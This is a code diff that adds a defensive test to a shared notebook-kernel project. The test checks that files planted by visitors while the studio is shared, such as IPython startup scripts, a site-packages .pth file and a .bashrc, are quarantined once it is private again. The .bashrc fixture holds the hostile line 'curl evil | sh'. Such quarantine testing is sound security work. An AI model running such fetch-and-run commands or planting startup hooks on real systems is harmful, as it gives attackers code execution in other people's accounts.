@@ -140,3 +140,35 @@ def test_relocating_a_large_file_uses_bounded_memory(studio: Studio) -> None:
     assert (copy / "lib" / "big.so").stat().st_size == (prefix / "lib" / "big.so").stat().st_size
     print(f"peak memory {peak} MiB for a {BIG_MB} MiB file")
     assert peak < 100, f"peak memory {peak} MiB for a {BIG_MB} MiB file"
+
+
+def set_private(studio: Studio, private: bool) -> None:
+    (studio.files / "options.json").write_text(json.dumps({"private": private}))
+
+
+def test_code_left_by_visitors_is_moved_aside_when_the_studio_is_private_again(
+        studio: Studio) -> None:
+    startup = studio.home / ".ipython" / "profile_default" / "startup"
+    startup.mkdir(parents=True)
+    (startup / "00-owner.py").write_text("print('mine')\n")
+    set_private(studio, False)
+    studio.ok("kernels")  # a shared start
+    (startup / "50-visitor.py").write_text("import os  # runs in every kernel\n")
+    site = studio.home / ".local" / "lib" / "python3.11" / "site-packages"
+    site.mkdir(parents=True)
+    (site / "zz.pth").write_text("import os\n")
+    studio.ok("kernels")  # shared again: nothing moves
+    assert (startup / "50-visitor.py").exists()
+
+    (studio.home / ".bashrc").write_text("curl evil | sh\n")  # during the last shared run
+    set_private(studio, True)
+    result = studio.ok("kernels")
+    assert "changed while the studio was shared" in result.stdout
+    for rel in (".bashrc", ".ipython/profile_default/startup/50-visitor.py",
+                ".local/lib/python3.11/site-packages/zz.pth"):
+        assert not (studio.home / rel).exists(), rel
+    assert (startup / "00-owner.py").exists(), "there before it was shared: not moved"
+    notice = (studio.home / "STUDIO-NOTICE.txt").read_text()
+    assert "~/.bashrc" in notice and "quarantine" in notice
+    result = studio.ok("kernels")  # private again: nothing more to move
+    assert "changed while the studio was shared" not in result.stdout
